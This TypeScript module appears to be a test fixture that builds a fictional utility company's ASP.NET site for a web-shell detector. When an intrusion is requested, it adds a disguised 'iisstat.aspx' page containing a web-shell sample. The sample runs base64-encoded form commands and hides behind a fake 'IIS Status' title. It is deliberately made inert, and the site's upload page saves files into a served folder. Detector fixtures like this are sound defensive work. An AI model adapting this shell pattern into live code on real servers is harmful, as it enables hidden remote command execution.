import type { World } from './world.ts'

const layout = (title: string, body: string): string =>
  `<%@ Page Language="C#" AutoEventWireup="true" %>\n<!DOCTYPE html>\n<html><head><title>${title}</title><link rel="stylesheet" href="/css/site.css"></head>\n<body>\n${body}\n<script src="/js/site.js"></script>\n</body></html>\n`

/** The web root as it was copied from the server: ordinary pages, and with the intrusion one page more. */
export function webRoot(world: World, withIntrusion: boolean): ReadonlyMap<string, string> {
  const files = new Map<string, string>([
    [
      'default.aspx',
      layout(
        world.operator,
        `<h1>${world.operator}</h1>\n<p><a href="/outages.aspx">Outages</a> <a href="/billing/login.aspx">Billing</a> <a href="/support/faq.aspx">Help</a></p>`,
      ),
    ],
    [
      'outages.aspx',
      layout(
        'Outages',
        '<asp:Repeater id="List" runat="server"><ItemTemplate><li><%# Eval("Street") %></li></ItemTemplate></asp:Repeater>',
      ),
    ],
    ['about.aspx', layout('About us', '<p>Power, water and telephone since 1961.</p>')],
    [
      'contact.aspx',
      layout(
        'Contact',
        '<form runat="server"><asp:TextBox id="Question" runat="server" /><asp:Button Text="Send" runat="server" /></form>',
      ),
    ],
    ['rates.aspx', layout('Rates', '<table><tr><td>kWh</td><td>0.21</td></tr></table>')],
    [
      'health.aspx',
      '<%@ Page Language="C#" %>\n<% Response.ContentType = "text/plain"; Response.Write("ok " + DateTime.UtcNow.ToString("o")); %>\n',
    ],
    [
      'billing/login.aspx',
      layout(
        'Sign in',
        '<script runat="server">\nprotected void SignIn(object sender, EventArgs e)\n{\n    var name = Request.Form["name"];\n    using (var command = new System.Data.SqlClient.SqlCommand("select id from customer where name = @name"))\n    {\n        command.Parameters.AddWithValue("@name", name);\n        command.ExecuteScalar();\n    }\n    Response.Redirect("/billing/account.aspx");\n}\n</script>\n<form runat="server"><input name="name"><input name="password" type="password"><asp:Button OnClick="SignIn" Text="Sign in" runat="server" /></form>',
      ),
    ],
    ['billing/account.aspx', layout('Your account', '<asp:GridView id="Bills" runat="server" />')],
    [
      'support/faq.aspx',
      layout(
        'Help',
        '<h2>Notices</h2>\n<asp:Repeater id="Files" runat="server"><ItemTemplate><a href="/support/files/<%# Eval("Name") %>"><%# Eval("Title") %></a></ItemTemplate></asp:Repeater>',
      ),
    ],
    [
      'support/upload.aspx',
      layout(
        'Upload a notice',
        '<script runat="server">\nprotected void Save(object sender, EventArgs e)\n{\n    var name = System.IO.Path.GetFileName(Notice.FileName);\n    Notice.SaveAs(Server.MapPath("/support/files/" + name));\n}\n</script>\n<form runat="server"><asp:FileUpload id="Notice" runat="server" /><asp:Button OnClick="Save" Text="Save" runat="server" /></form>',
      ),
    ],
    [
      'api/payments/hook.ashx',
      '<%@ WebHandler Language="C#" Class="Hook" %>\nusing System.Web;\npublic class Hook : IHttpHandler\n{\n    public bool IsReusable { get { return true; } }\n    public void ProcessRequest(HttpContext context)\n    {\n        var body = new System.IO.StreamReader(context.Request.InputStream).ReadToEnd();\n        PaymentQueue.Add(body, context.Request.Headers["X-Signature"]);\n        context.Response.Write("accepted");\n    }\n}\n',
    ],
    [
      'js/site.js',
      '(function () {\n  var map = document.getElementById("map");\n  if (map) fetch("/api/outages").then(function (r) { return r.json(); }).then(function (list) { map.textContent = list.length; });\n})();\n',
    ],
    ['css/site.css', 'body { font: 16px/1.5 sans-serif; margin: 2rem; }\n'],
  ])
  if (withIntrusion) files.set('support/files/iisstat.aspx', INERT_SHELL)
  return files
}

/**
 * What a command page looks like to a detector, made so that no server can run it: the #error directive stops the compiler before
 * anything else, and the process call names no program.
 */
const INERT_SHELL = `<%@ Page Language="C#" %>
<% #error inert example: this page must never compile %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    string k = Request.Form["sid"];
    if (k == null) { Response.Write("<title>IIS Status</title>"); return; }
    string c = Encoding.UTF8.GetString(Convert.FromBase64String(Request.Form["q"]));
    var p = new System.Diagnostics.ProcessStartInfo("", "/C " + c);
    p.UseShellExecute = false;
    p.RedirectStandardOutput = true;
    var r = System.Diagnostics.Process.Start(p);
    Response.Write(Convert.ToBase64String(Encoding.UTF8.GetBytes(r.StandardOutput.ReadToEnd())));
}
</script>
`
